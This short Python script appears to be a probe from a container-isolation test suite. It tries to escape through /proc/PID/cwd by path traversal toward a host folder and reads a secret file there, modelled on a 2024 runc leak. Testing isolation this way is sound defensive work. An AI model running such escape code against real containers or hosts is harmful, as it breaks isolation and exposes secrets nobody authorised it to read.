"""Climbs from /proc/PID/cwd of every process that it sees: runc's leak of 2024 was such a folder.

layers: mounts
"""
import glob

from attack import *

for cwd in glob.glob("/proc/*/cwd"):
    try:
        path = cwd + "/" + "../" * 32 + witness("FOLDER").lstrip("/") + "/secret"
        with open(path) as secret:
            through(f"{cwd}: {secret.read().strip()}")
    except OSError:
        pass
stopped("no working folder leads there")
